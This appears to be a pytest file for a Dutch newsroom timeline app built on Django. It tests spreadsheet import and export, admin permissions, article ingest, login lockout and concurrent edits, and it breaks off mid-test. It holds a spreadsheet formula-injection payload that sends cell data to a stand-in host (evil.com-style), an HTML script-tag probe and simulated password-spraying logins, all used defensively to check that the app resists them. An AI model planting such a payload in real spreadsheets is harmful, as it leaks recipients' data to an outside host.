# -- import and export --------------------------------------------------------------------------

HEADERS = ["Year", "Month", "Day", "Time", "End Year", "End Month", "End Day", "Display Date",
           "Headline", "Text", "Group", "Slug", "EDTF", "Part Of Day", "Status", "Event Type",
           "Actors", "Quote", "Source", "Published"]  # fmt: skip


def _rows(*rows: dict) -> tablib.Dataset:
    return tablib.Dataset(*[[row.get(h, "") for h in HEADERS] for row in rows], headers=HEADERS)


GOOD = [
    {"Year": "2022", "Month": "1", "Day": "26", "Headline": "Brief van de VS",
     "Slug": "vs-brief", "Event Type": "diplomatic-letter",
     "Actors": "verenigde-staten:sender; rusland:recipient",
     "Quote": "De VS stuurden woensdag een brief.", "Source": SOURCE, "Published": "1"},
    {"Year": "2022", "Month": "1", "Headline": "Gesprekken in januari", "Slug": "januari",
     "Group": "gesprek", "Actors": "lavrov:speaker", "Quote": "Er werd gepraat.",
     "Source": SOURCE},
    {"Year": "2022", "Month": "1", "Day": "24", "End Year": "2022", "End Month": "1",
     "End Day": "27", "Time": "09:30", "Headline": "Eerder deze week", "Slug": "deze-week",
     "Event Type": "statement", "Actors": "navo:speaker", "Quote": "Eén.\n\nTwee.",
     "Source": SOURCE},
    {"Display Date": "vanmorgen", "Headline": "Vanmorgen", "Slug": "vanmorgen",
     "EDTF": "", "Event Type": "phone-call", "Status": "gebeurd",
     "Actors": "poetin:caller; macron:callee", "Quote": "Poetin belde vanochtend.",
     "Source": SOURCE},
    {"EDTF": "2022-01-29/..", "Year": "1999", "Headline": "EDTF wint", "Slug": "edtf-wint",
     "Event Type": "meeting", "Status": "expected"},
]  # fmt: skip


CONFIRM = 'value="Importeren"'


def _import(desk: Client, content: bytes, name: str, fmt: str) -> tuple:
    """Upload a file, let the background check run, and read its page."""
    upload = SimpleUploadedFile(name, content)
    started = desk.post(IMPORT, {"resource": "0", "format": fmt, "import_file": upload})
    assert started.status_code == 302 and "/admin/timeline/event/import/" in started["Location"]
    waiting = desk.get(started["Location"])
    assert "wacht op zijn beurt" in text(waiting)  # nothing has run in the request
    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", verbosity=0)
    response = desk.get(started["Location"])
    assert response.status_code == 200
    return response, text(response)


def _confirm(desk: Client, response):
    """Press "Importeren" on a clean check's page and let the import run."""
    started = desk.post(response.wsgi_request.path, {})
    assert started.status_code == 302
    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", verbosity=0)
    return desk.get(started["Location"])


def _check_good_import() -> None:
    letter = Event.objects.get(slug="vs-brief")
    assert (letter.edtf, letter.published, letter.type.slug) == ("2022-01-26", True, "diplomatic-letter")
    assert set(letter.participations.values_list("actor__slug", "role")) == {
        ("verenigde-staten", "sender"), ("rusland", "recipient"),
    }  # fmt: skip
    assert letter.citations.get().quote == "De VS stuurden woensdag een brief."
    assert Event.objects.get(slug="januari").edtf == "2022-01"
    assert Event.objects.get(slug="januari").type.slug == "talks"
    week = Event.objects.get(slug="deze-week")
    assert (week.edtf, week.part_of_day) == ("2022-01-24/2022-01-27", "morning")
    assert list(week.citations.values_list("position", "quote")) == [(1, "Eén."), (2, "Twee.")]
    morning = Event.objects.get(slug="vanmorgen")
    assert (morning.edtf, morning.part_of_day, morning.status) == ("2022-01-28", "morning", "occurred")
    assert Event.objects.get(slug="edtf-wint").edtf == "2022-01-29/.."


def test_it_imports_a_good_csv_after_a_preview(desk, editor):
    before = Event.objects.count()
    response, html = _import(desk, _rows(*GOOD).export("csv").encode(), "events.csv", "0")
    assert "Gecontroleerd: 5 rijen, 5 nieuw, 0 bijgewerkt" in html
    assert "<td>Nieuw</td><td>vs-brief</td><td>Brief van de VS</td>" in html
    assert Event.objects.count() == before  # a dry run
    response = _confirm(desk, response)
    assert response.status_code == 200
    assert "Geïmporteerd: 5 rijen, 5 nieuw, 0 bijgewerkt" in text(response)
    assert Event.objects.count() == before + len(GOOD)
    _check_good_import()
    record = Event.objects.get(slug="vs-brief").history.get()
    assert record.history_user == editor and record.history_change_reason == "import uit events.csv"


def test_it_imports_a_good_xlsx(desk):
    dataset = _rows(*GOOD)
    # Spreadsheets give numbers as numbers.
    workbook = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx")))
    sheet = workbook.active
    sheet["A2"], sheet["B2"], sheet["C2"] = 2022, 1, 26
    out = io.BytesIO()
    workbook.save(out)
    response, html = _import(desk, out.getvalue(), "events.xlsx", "1")
    assert CONFIRM in html, html
    _confirm(desk, response)
    _check_good_import()


def test_it_imports_a_plain_timelinejs_sheet(desk):
    sheet = tablib.Dataset(
        ["2022", "1", "26", "Brieven bezorgd", "NAVO en VS bezorgen hun antwoord.", "diplomatieke brief"],
        ["2022", "1", "", "Spanning in januari", "", "verklaring"],
        headers=["Year", "Month", "Day", "Headline", "Text", "Group"],
    )  # fmt: skip
    response, html = _import(desk, sheet.export("csv").encode(), "timelinejs.csv", "0")
    assert CONFIRM in html, html
    _confirm(desk, response)
    letters = Event.objects.get(slug="brieven-bezorgd")
    assert (letters.edtf, letters.type.slug, letters.summary, letters.published) == (
        "2022-01-26", "diplomatic-letter", "NAVO en VS bezorgen hun antwoord.", False
    )
    assert Event.objects.get(slug="spanning-in-januari").edtf == "2022-01"


# As a Dutch Excel saves "CSV (gescheiden door lijstscheidingsteken)": semicolons, Windows-1252.
DUTCH_ROWS = [
    {"EDTF": "26-01-2022", "Headline": "Brief aan het Kremlin bezorgd", "Slug": "brief-bezorgd",
     "Event Type": "diplomatic-letter", "Actors": "navo:sender; kremlin:recipient",
     "Quote": "De NAVO heeft haar reactie bezorgd; één brief, ook voor België.", "Source": SOURCE},
    {"Display Date": "26 januari 2022", "Headline": "Reactie van de VS: ‘Oekraïne’ en ‘Rusland’",
     "Slug": "reactie-vs", "Event Type": "statement", "Actors": "verenigde-staten:speaker",
     "Quote": "Het Witte Huis reageerde, zei de NOS.", "Source": SOURCE},
]  # fmt: skip


def _dutch_csv(rows, encoding: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(HEADERS)
    for row in rows:
        writer.writerow([row.get(h, "") for h in HEADERS])
    return out.getvalue().encode(encoding)


def _check_dutch_import() -> None:
    letter = Event.objects.get(slug="brief-bezorgd")
    assert letter.edtf == "2022-01-26"
    assert letter.citations.get().quote == "De NAVO heeft haar reactie bezorgd; één brief, ook voor België."
    assert set(letter.participations.values_list("actor__slug", "role")) == {
        ("navo", "sender"), ("kremlin", "recipient"),
    }  # fmt: skip
    reply = Event.objects.get(slug="reactie-vs")
    assert (reply.edtf, reply.title) == ("2022-01-26", "Reactie van de VS: ‘Oekraïne’ en ‘Rusland’")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1"])
def test_it_imports_a_semicolon_csv_in_every_encoding_a_newsroom_saves(desk, encoding):
    rows = DUTCH_ROWS
    if encoding == "latin-1":  # no typographic quotes in Latin-1
        rows = [dict(DUTCH_ROWS[0]), dict(DUTCH_ROWS[1], Headline="Reactie van de VS: Oekraïne")]
    content = _dutch_csv(rows, encoding)
    if encoding == "cp1252":
        assert "é".encode("cp1252") in content and "ë".encode("cp1252") in content
        with pytest.raises(UnicodeDecodeError):
            content.decode("utf-8")
    response, html = _import(desk, content, "redactie.csv", "0")
    assert "Gecontroleerd: 2 rijen, 2 nieuw, 0 bijgewerkt" in html, html
    _confirm(desk, response)
    letter = Event.objects.get(slug="brief-bezorgd")
    assert letter.citations.get().quote == "De NAVO heeft haar reactie bezorgd; één brief, ook voor België."
    if encoding != "latin-1":
        _check_dutch_import()


def test_it_imports_an_xlsx_with_dutch_dates_in_text_and_date_cells(desk):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    for row in DUTCH_ROWS:
        sheet.append([row.get(h, "") for h in HEADERS])
    # A date typed into a cell that Excel made a date.
    third = {"Headline": "Datumcel", "Slug": "datumcel", "Event Type": "statement",
             "EDTF": dt.datetime(2022, 1, 28)}  # fmt: skip
    sheet.append([third.get(h, "") for h in HEADERS])
    out = io.BytesIO()
    workbook.save(out)
    response, html = _import(desk, out.getvalue(), "redactie.xlsx", "1")
    assert "Gecontroleerd: 3 rijen, 3 nieuw, 0 bijgewerkt" in html, html
    _confirm(desk, response)
    _check_dutch_import()
    assert Event.objects.get(slug="datumcel").edtf == "2022-01-28"


def test_it_names_the_bad_row_of_a_semicolon_csv_in_dutch_and_imports_nothing(desk):
    bad = dict(DUTCH_ROWS[1], Slug="onleesbaar", EDTF="32-13-2022")
    before = Event.objects.count()
    response, html = _import(desk, _dutch_csv([DUTCH_ROWS[0], bad], "cp1252"), "redactie.csv", "0")
    assert "Niet te importeren: fouten in rij 2." in html
    assert "<td>2</td><td>EDTF: EDTF ‘32-13-2022’:" in html
    assert CONFIRM not in html
    assert Event.objects.count() == before


def test_it_exports_xlsx(desk):
    data = form_data(desk.get(EXPORT), None)
    data["format"] = "1"
    response = desk.post(EXPORT, data)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Year", "Month", "Day"] and "Actors" in header
    assert sheet.max_row == Event.objects.count() + 1


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bron")'


def test_it_exports_formulae_as_text_in_xlsx_and_csv(desk):
    Event.objects.filter(slug=CALL).update(title=FORMULA, summary="@Kyiv")
    data = form_data(desk.get(EXPORT), None)
    data["format"] = "1"
    sheet = openpyxl.load_workbook(io.BytesIO(desk.post(EXPORT, data).content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Slug")].value == CALL)
    headline = row[header.index("Headline")]
    assert (headline.value, headline.data_type) == (FORMULA, "s")  # text, not a formula
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)

    rows = {r["Slug"]: r for r in csv.DictReader(io.StringIO(_export_csv(desk)))}
    assert (rows[CALL]["Headline"], rows[CALL]["Text"]) == ("'" + FORMULA, "'@Kyiv")


def test_it_imports_nothing_when_one_row_is_bad_and_names_row_and_reason(desk):
    bad = dict(GOOD[1], Slug="kapot", Actors="lavrov:speaker; onbekende-man:subject")
    counts = (Event.objects.count(), Participation.objects.count())
    response, html = _import(desk, _rows(GOOD[0], bad, GOOD[2]).export("csv").encode(),
                             "events.csv", "0")  # fmt: skip
    assert "onbekende deelnemer ‘onbekende-man’" in html
    assert "<td>2</td><td>Actors: onbekende deelnemer" in html  # the row, the column
    assert "Niet te importeren: fouten in rij 2." in html
    assert CONFIRM not in html  # nothing to confirm
    assert (Event.objects.count(), Participation.objects.count()) == counts


def test_it_names_every_kind_of_bad_row(desk):
    rows = [
        dict(GOOD[0], Slug="a", Source="geen-bron"),
        dict(GOOD[0], Slug="b", **{"Event Type": "geen-soort"}),
        dict(GOOD[0], Slug="c", Year="", Month="", Day="", **{"Display Date": "blauw"}),
        dict(GOOD[0], Slug="d", Actors="lavrov"),
        dict(GOOD[0], Slug="e", Year="2022", Month="13", Day="45"),
    ]
    _, html = _import(desk, _rows(*rows).export("csv").encode(), "events.csv", "0")
    assert "onbekende bron ‘geen-bron’" in html
    assert "onbekende soort gebeurtenis ‘geen-soort’" in html
    assert "Display Date ‘blauw’" in html
    assert "rol ontbreekt bij ‘lavrov’" in html
    assert "geen geldige EDTF-datum" in html
    assert not Event.objects.filter(slug__in="abcde").exists()


def test_it_checks_a_large_file_in_the_background_with_a_short_preview(desk, desk2):
    rows = [
        dict(GOOD[0], Slug=f"brief-{n}", Headline=f"Brief {n}", Source="geen-bron" if n % 3 else SOURCE)
        for n in range(300)
    ]  # fmt: skip
    response, html = _import(desk, _rows(*rows).export("csv").encode(), "groot.csv", "0")
    # A summary, the first rows and the first errors: not one table row per line of the file.
    assert "Niet te importeren: fouten in rij 2, 3, 5," in html and " en meer." in html
    assert "(de eerste 50 van 200 rijen)" in html
    assert "De eerste 20 van 300 rijen" in html
    assert html.count("onbekende bron ‘geen-bron’") == 50
    assert "brief-19" in html and "brief-20<" not in html
    assert len(response.content) < 60_000
    assert CONFIRM not in html
    assert not Event.objects.filter(slug__startswith="brief-").exists()
    (job_id,) = re.findall(r"/import/([0-9a-f-]{36})/", response.wsgi_request.path)
    assert imports.progress(job_id) == {"done": 300, "total": 300}
    # Nothing to confirm after a failed check; and a colleague cannot read someone's file.
    assert desk.post(response.wsgi_request.path, {}).status_code == 403
    assert desk2.get(response.wsgi_request.path).status_code == 403


def test_it_rolls_back_a_confirmed_import_that_has_become_bad(desk):
    """The file was fine in the preview; by the confirm step an actor was deleted."""
    extra = Actor.objects.create(slug="tijdelijk", name="Tijdelijk", kind="person")
    rows = [GOOD[0], dict(GOOD[1], Actors="tijdelijk:speaker")]
    response, html = _import(desk, _rows(*rows).export("csv").encode(), "events.csv", "0")
    assert CONFIRM in html
    extra.delete()
    before = Event.objects.count()
    response = _confirm(desk, response)
    assert "Import afgebroken, er is niets geïmporteerd: fouten in rij 2" in text(response)
    assert Event.objects.count() == before
    assert not Event.objects.filter(slug="vs-brief").exists()


def _export_csv(desk: Client) -> str:
    data = form_data(desk.get(EXPORT), None)
    data["format"] = "0"
    response = desk.post(EXPORT, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode()


def _state() -> dict:
    return {
        e.slug: (
            e.title, e.summary, e.type.slug, e.status, e.edtf, e.part_of_day, e.location,
            e.published, sorted(e.timelines.values_list("slug", flat=True)),
            sorted(e.participations.values_list("actor__slug", "role")),
            sorted(e.citations.values_list("source__slug", "position", "quote")),
        )
        for e in Event.objects.all()
    }  # fmt: skip


def test_it_exports_the_columns_a_timelinejs_user_knows(desk):
    exported = _export_csv(desk)
    header = next(csv.reader(io.StringIO(exported)))
    assert header[:18] == [
        "Year", "Month", "Day", "Time", "End Year", "End Month", "End Day", "End Time",
        "Display Date", "Headline", "Text", "Media", "Media Credit", "Media Caption",
        "Media Thumbnail", "Type", "Group", "Background",
    ]  # fmt: skip
    rows = {r["Slug"]: r for r in csv.DictReader(io.StringIO(exported))}
    week = rows["hoekstra-nederlandse-diplomaten-mogen-weg"]
    assert (week["Year"], week["Month"], week["Day"], week["End Day"]) == ("2022", "1", "24", "27")
    assert week["Display Date"] == "24–27 januari 2022"
    call = rows[CALL]
    assert call["Actors"] == "poetin:speaker; macron:speaker"
    assert call["Source"] == SOURCE and call["Part Of Day"] == "morning"
    assert rows["lavrov-blinken-ontmoeting-verwacht"]["End Year"] == ""


def test_it_round_trips_an_export_through_an_import(desk):
    before = _state()
    exported = _export_csv(desk)
    Event.objects.all().delete()  # what is left: timelines, types, actors, aliases, sources
    assert Event.objects.count() == 0
    response, html = _import(desk, exported.encode(), "events.csv", "0")
    assert CONFIRM in html, html
    _confirm(desk, response)
    assert _state() == before


def test_it_updates_existing_events_on_import_with_history_and_version(desk):
    exported = _export_csv(desk)
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:
        if row["Slug"] == CALL:
            row["Headline"] = "Poetin en Macron bellen"
            row["Actors"] = "poetin:caller; macron:callee"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=rows[0].keys())
    writer.writeheader()
    writer.writerows(rows)
    response, html = _import(desk, out.getvalue().encode(), "events.csv", "0")
    # The preview says which rows change an event.
    assert f"<td>Bijwerken</td><td>{CALL}</td><td>Poetin en Macron bellen</td>" in html
    assert "19 rijen, 0 nieuw, 19 bijgewerkt" in html
    _confirm(desk, response)
    call = Event.objects.get(slug=CALL)
    assert call.title == "Poetin en Macron bellen" and call.version == 2
    assert set(call.participations.values_list("actor__slug", "role")) == {
        ("poetin", "caller"), ("macron", "callee"),
    }  # fmt: skip
    assert Event.objects.count() == 19


# -- who may do what ----------------------------------------------------------------------------


def _admin_urls() -> list[tuple[str, str]]:
    event = Event.objects.get(slug=CALL)
    event.save()  # a history record to point at
    record = event.history.first()
    urls = [
        ("get", CHANGELIST),
        ("get", ADD),
        ("get", change_url(event)),
        ("post", change_url(event)),
        ("get", f"/admin/timeline/event/{event.pk}/delete/"),
        ("get", f"/admin/timeline/event/{event.pk}/history/"),
        ("get", f"/admin/timeline/event/{event.pk}/history/{record.history_id}/"),
        ("post", f"/admin/timeline/event/{event.pk}/history/{record.history_id}/"),
        ("get", IMPORT),
        ("post", IMPORT),
        ("post", PROCESS_IMPORT),
        ("get", EXPORT),
        ("post", EXPORT),
        ("get", f"/admin/timeline/event/{event.pk}/preview/"),
        ("get", f"{RESOLVE}?text=woensdag"),
        ("get", INGEST),
        ("post", INGEST),
    ]
    for model, obj in [
        ("actor", Actor.objects.get(slug="lavrov")),
        ("source", Source.objects.get(slug=SOURCE)),
        ("participation", Participation.objects.first()),
        ("citation", Citation.objects.first()),
        ("alias", Alias.objects.first()),
        ("timeline", Timeline.objects.first()),
        ("eventtype", EventType.objects.first()),
    ]:
        urls += [
            ("get", f"/admin/timeline/{model}/"),
            ("get", f"/admin/timeline/{model}/add/"),
            ("get", f"/admin/timeline/{model}/{obj.pk}/change/"),
            ("get", f"/admin/timeline/{model}/{obj.pk}/history/"),
        ]
    return urls


def _assert_refused(client: Client, expected: set[int]) -> None:
    title = Event.objects.get(slug=CALL).title
    for method, url in _admin_urls():
        response = getattr(client, method)(url, {"format": "0"} if method == "post" else None)
        assert response.status_code in expected, (method, url, response.status_code)
        if response.status_code == 302:
            assert response["Location"].startswith("/admin/login/"), url
        assert title not in text(response), url
        assert "Poetin" not in text(response), url
    assert Event.objects.get(slug=CALL).title == title


def test_it_sends_anonymous_visitors_to_the_login_page_for_every_admin_url(client, seed):
    _assert_refused(client, {302})


def test_it_sends_logged_in_readers_who_are_not_staff_to_the_login_page(client, seed):
    reader = User.objects.create_user("lezer", password=PASSWORD)
    client.force_login(reader)
    _assert_refused(client, {302})


def test_it_refuses_staff_outside_the_editors_group(client, seed):
    staff = User.objects.create_user("stagiair", password=PASSWORD, is_staff=True)
    client.force_login(staff)
    _assert_refused(client, {403})


# -- ingest in the admin ----------------------------------------------------------------------

ARTICLE = {
    "text": "# Scholz belt Poetin\n\nBondskanselier Olaf Scholz heeft donderdagavond telefonisch "
    "overlegd met president Poetin. Volgende week reist Scholz naar Washington.",
    "kind": ".md",
    "outlet": "Testkrant",
    "title": "",
    "url": "",
    "published": "2022-02-11",
    "language": "nl",
}


def test_it_proposes_an_article_pasted_in_the_admin_and_saves_only_what_is_ticked(desk):
    counts = (Event.objects.count(), Source.objects.count(), Actor.objects.count())
    assert "Artikel inlezen" in text(desk.get(CHANGELIST))

    shown = desk.post(INGEST, {**ARTICLE, "propose": "1"})

    assert shown.status_code == 200
    page = text(shown)
    assert "nieuwe gebeurtenis" in page and "Olaf Scholz <strong>(nieuw)</strong>" in page
    assert "donderdag 10 februari 2022" in page
    assert (Event.objects.count(), Source.objects.count(), Actor.objects.count()) == counts

    saved = desk.post(INGEST, {**ARTICLE, "save": "1", "keep": ["1"]})

    assert saved.status_code == 302
    (draft,) = Event.objects.filter(proposed_from__outlet="Testkrant")
    assert (draft.type.slug, draft.edtf, draft.published) == ("phone-call", "2022-02-10", False)
    assert draft.part_of_day == "evening"
    assert {p.actor.slug for p in draft.participations.all()} == {"scholz", "poetin"}
    assert draft.history.earliest().history_change_reason.startswith("ingest ")
    scholz = Actor.objects.get(slug="scholz")
    assert (scholz.kind, scholz.function, scholz.affiliation) == ("person", "bondskanselier", None)
    assert str(draft.proposed_from.pk) in saved["Location"]


def test_it_adds_an_uploaded_html_report_to_the_event_it_already_has(desk):
    call = Event.objects.get(slug=CALL)
    html = (
        "<html><head><title>Poetin belt Macron</title></head><body><h1>Poetin belt Macron</h1>"
        "<p>Vanochtend heeft president Poetin met zijn Franse ambtgenoot Macron telefonisch "
        "overlegd, meldt persbureau ANP.</p><script>alert(1)</script></body></html>"
    )
    upload = SimpleUploadedFile("poetin.html", html.encode(), content_type="text/html")
    data = {**ARTICLE, "text": "", "outlet": "Andere krant", "published": "2022-01-28"}

    shown = desk.post(INGEST, {**data, "upload": upload, "propose": "1"})

    assert "bron toevoegen aan" in text(shown) and call.title in text(shown)
    assert "<script>" not in text(shown)  # the upload's markup is text, never markup
    desk.post(INGEST, {**data, "text": shown.context["text"], "kind": ".html", "save": "1",
                       "keep": ["1"]})  # fmt: skip
    assert list(call.citations.values_list("source__outlet", "position")) == [
        ("NOS", 1),
        ("Andere krant", 2),
    ]
    assert not Event.objects.filter(proposed_from__outlet="Andere krant").exists()


def test_it_credits_the_agency_an_uploaded_report_names_on_its_source_and_citation(desk, client):
    html = (
        "<html><body><p>Vanochtend heeft president Poetin met zijn Franse ambtgenoot Macron "
        "telefonisch overlegd, meldt persbureau ANP.</p></body></html>"
    )
    data = {**ARTICLE, "text": html, "kind": ".html", "outlet": "Andere krant",
            "published": "2022-01-28"}  # fmt: skip

    desk.post(INGEST, {**data, "save": "1", "keep": ["1"]})

    source = Source.objects.get(outlet="Andere krant")
    assert source.attribution == "ANP"
    assert not Actor.objects.filter(name="ANP").exists()  # the reporter, not a participant
    assert "ANP" in text(desk.get("/admin/timeline/source/"))
    page = text(client.get(f"/events/{CALL}/"))
    assert "Andere krant" in page and "via ANP" in page


def test_it_lists_ingested_actors_as_new_until_an_editor_marks_them_reviewed(desk):
    desk.post(INGEST, {**ARTICLE, "save": "1", "keep": ["1"]})
    scholz = Actor.objects.get(slug="scholz")
    assert scholz.reviewed is False
    assert Actor.objects.get(slug="lavrov").reviewed is True  # entered by an editor

    new = text(desk.get("/admin/timeline/actor/?nieuw=ja"))

    assert "nieuw uit inlezen" in new
    assert "Olaf Scholz" in new and "Sergej Lavrov" not in new

    done = desk.post("/admin/timeline/actor/?nieuw=ja", {
        "action": "mark_reviewed", "_selected_action": [str(scholz.pk)], "index": "0",
    }, follow=True)  # fmt: skip

    assert "1 deelnemer nagekeken" in text(done)
    scholz.refresh_from_db()
    assert scholz.reviewed is True
    assert scholz.history.latest().history_change_reason == "nagekeken"
    assert "Olaf Scholz" not in text(desk.get("/admin/timeline/actor/?nieuw=ja"))


def test_it_refuses_an_ingest_without_text_or_of_an_unknown_format(desk):
    empty = desk.post(INGEST, {**ARTICLE, "text": " ", "propose": "1"})
    pdf = SimpleUploadedFile("a.pdf", b"%PDF", content_type="application/pdf")
    wrong = desk.post(INGEST, {**ARTICLE, "upload": pdf, "propose": "1"})

    assert "Plak een artikel of kies een bestand." in text(empty)
    assert "Alleen tekst (.txt), Markdown (.md) of HTML (.html)." in text(wrong)
    assert not Source.objects.filter(outlet="Testkrant").exists()


# -- login lockout (django-axes) ----------------------------------------------------------------


def _login(client: Client, username: str, password: str, ip: str):
    return client.post(
        "/admin/login/?next=/admin/",
        {"username": username, "password": password, "next": "/admin/"},
        REMOTE_ADDR=ip,
    )


def test_it_locks_a_username_at_one_address_after_five_bad_passwords(seed):
    _editor("anna")
    _editor("bram")
    attacker = Client()
    for _ in range(4):
        response = _login(attacker, "anna", "fout", "10.0.0.1")
        assert response.status_code == 200  # the form again, with its error
    assert _login(attacker, "anna", "fout", "10.0.0.1").status_code == 429  # the fifth
    response = _login(attacker, "anna", PASSWORD, "10.0.0.1")
    assert response.status_code == 429
    assert "_auth_user_id" not in attacker.session

    # A colleague behind the same address still gets in...
    response = _login(Client(), "bram", PASSWORD, "10.0.0.1")
    assert response.status_code == 302 and response["Location"] == "/admin/"
    # ...and so does anna from her own desk.
    anna = Client()
    response = _login(anna, "anna", PASSWORD, "10.0.0.2")
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert anna.get(CHANGELIST).status_code == 200
    assert AccessAttempt.objects.filter(username="anna", ip_address="10.0.0.1").exists()


# -- one change, however many rows ---------------------------------------------------------------


def test_it_refreshes_the_search_text_and_the_version_once_for_an_event_and_its_inlines(desk, client):
    data = new_event_data(desk, edtf="2022-01-26", published="on")
    cast = ["lavrov", "blinken", "macron", "navo", "rusland"]
    for i, slug in enumerate(cast):
        data[f"participations-{i}-actor"] = _actor(slug)
        data[f"participations-{i}-role"] = "speaker"
    quotes = ["Eerste citaat over zeppelins.", "Tweede over ballonnen.", "Derde over luchtschepen."]
    for i, quote in enumerate(quotes):
        data.update({f"citations-{i}-source": _ids(SOURCE)["source"], f"citations-{i}-position": str(i + 1),
                     f"citations-{i}-quote": quote})  # fmt: skip
    data["participations-TOTAL_FORMS"], data["citations-TOTAL_FORMS"] = "5", "3"
    _token, number = DataVersion.read()

    with CaptureQueriesContext(connection) as queries:
        response = desk.post(ADD, data)
    assert response.status_code == 302, text(response)

    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    assert event.participations.count() == 5 and event.citations.count() == 3
    writes = [q["sql"] for q in queries if "search_text" in q["sql"] and q["sql"].startswith("UPDATE")]
    assert len(writes) == 1
    assert DataVersion.read()[1] == number + 1
    changes = Change.objects.filter(number=number + 1).values_list("kind", "event_id")
    assert list(changes) == [("event", event.pk)]
    # Right once committed: the quotes and every participant's name are found.
    assert "luchtschepen" in event.search_text and "macron" in event.search_text
    found = client.get("/api/events.json?q=luchtschepen").json()["events"]
    assert [e["slug"] for e in found] == ["lavrov-spreekt-blinken"]


def _behind_proxy_settings() -> dict:
    """The lockout settings a server started with BEHIND_PROXY=1 has (read in a fresh process)."""
    names = ["AXES_IPWARE_PROXY_COUNT", "AXES_IPWARE_META_PRECEDENCE_ORDER", "IPWARE_STRICT"]
    code = f"import json, timeline.settings as s; print(json.dumps({{n: getattr(s, n) for n in {names!r}}}))"
    env = {**os.environ, "BEHIND_PROXY": "1", "DEBUG": "1"}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True,
                          check=True, timeout=60)  # fmt: skip
    return json.loads(done.stdout)


def _login_via_proxy(client: Client, username: str, password: str, forwarded_for: str):
    # The proxy on this machine connects from 127.0.0.1 and appends the address it saw.
    return client.post(
        "/admin/login/?next=/admin/",
        {"username": username, "password": password, "next": "/admin/"},
        REMOTE_ADDR="127.0.0.1",
        HTTP_X_FORWARDED_FOR=forwarded_for,
    )


def test_it_locks_out_the_forwarded_address_not_the_proxy_behind_a_proxy(seed, settings):
    for name, value in _behind_proxy_settings().items():
        setattr(settings, name, value)
    _editor("anna")
    attacker = Client()
    for _ in range(5):
        _login_via_proxy(attacker, "anna", "fout", "198.51.100.7")
    assert _login_via_proxy(attacker, "anna", PASSWORD, "198.51.100.7").status_code == 429
    # Nor does a made-up address in front of the real one get the attacker a fresh count.
    assert _login_via_proxy(Client(), "anna", PASSWORD, "203.0.113.9, 198.51.100.7").status_code == 429

    anna = Client()
    response = _login_via_proxy(anna, "anna", PASSWORD, "192.0.2.44")
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert AccessAttempt.objects.get().ip_address == "198.51.100.7"


def test_it_throttles_one_address_trying_many_usernames(seed, settings):
    for n in range(5):
        _editor(f"redacteur{n}")
    sprayer = Client()
    limit = settings.LOGIN_ADDRESS_FAILURE_LIMIT
    # Never five on one username: the per-username lockout alone would not stop this.
    answers = [_login(sprayer, f"redacteur{n % 5}", f"poging{n}", "10.0.0.9").status_code
               for n in range(limit)]  # fmt: skip
    assert answers == [200] * (limit - 1) + [429]  # the last one reaches the limit
    assert _login(sprayer, "redacteur0", PASSWORD, "10.0.0.9").status_code == 429
    assert _login(Client(), "nieuw", "wat-dan-ook", "10.0.0.9").status_code == 429
    # Somewhere else everyone still gets in.
    response = _login(Client(), "redacteur0", PASSWORD, "10.0.0.10")
    assert response.status_code == 302


def test_a_colleague_lifts_a_lockout_and_the_editor_gets_in(seed):
    _editor("anna")
    for _ in range(5):
        _login(Client(), "anna", "fout", "10.0.0.1")
    assert _login(Client(), "anna", PASSWORD, "10.0.0.1").status_code == 429

    call_command("axes_reset_username", "anna", stdout=io.StringIO())

    response = _login(Client(), "anna", PASSWORD, "10.0.0.1")
    assert response.status_code == 302 and response["Location"] == "/admin/"


# -- saving at the same moment (real server processes on one SQLite file) ----------------------

CONFLICT = "Een collega heeft deze gebeurtenis opgeslagen nadat u haar opende"
MAKE_EDITORS = """
from django.contrib.auth.models import Group, User
editors = Group.objects.get(name="Editors")
for n in range({n}):
    user = User.objects.create_user(f"redacteur{{n}}", password={password!r}, is_staff=True)
    user.groups.add(editors)
from timeline.models import Event
print(",".join(str(pk) for pk in Event.objects.order_by("pk").values_list("pk", flat=True)[:{events}]))
"""


def _signed_in(url: str, username: str) -> requests.Session:
    session = requests.Session()
    session.get(f"{url}/admin/login/", timeout=30)
    response = session.post(
        f"{url}/admin/login/?next=/admin/",
        {"username": username, "password": PASSWORD, "next": "/admin/",
         "csrfmiddlewaretoken": session.cookies["csrftoken"]},
        timeout=30, allow_redirects=False,
    )  # fmt: skip
    assert response.status_code == 302, response.status_code
    return session


def test_twenty_editors_saving_at_once_on_sqlite_save_or_get_the_conflict_page(sqlite_site):
    """Two editors on each of ten events, all twenty saves sent at the same moment to five
    workers: one of each pair is saved, the other is told a colleague saved first."""
    pks = sqlite_site.manage("shell", "-c", MAKE_EDITORS.format(n=20, password=PASSWORD, events=10))
    events = pks.strip().splitlines()[-1].split(",")
    assert len(events) == 10
    answers: list[str] = []
    with sqlite_site.serve(workers=5) as url:
        desks = [_signed_in(url, f"redacteur{n}") for n in range(20)]
        forms = []
        for n, desk in enumerate(desks):
            change = f"{url}/admin/timeline/event/{events[n // 2]}/change/"
            data = form_data(desk.get(change, timeout=30))
            data["summary"] = f"Samenvatting van redacteur{n}."
            forms.append((desk, change, data))
        start = threading.Barrier(len(forms))

        def save(desk, change, data) -> None:
            start.wait()
            try:
                response = desk.post(change, data, timeout=60, allow_redirects=False,
                                     headers={"Referer": change})  # fmt: skip
            except requests.RequestException as exc:
                answers.append(f"error: {exc}")
                return
            if response.status_code == 302:
                answers.append("saved")
            elif response.status_code == 200 and CONFLICT in response.text:
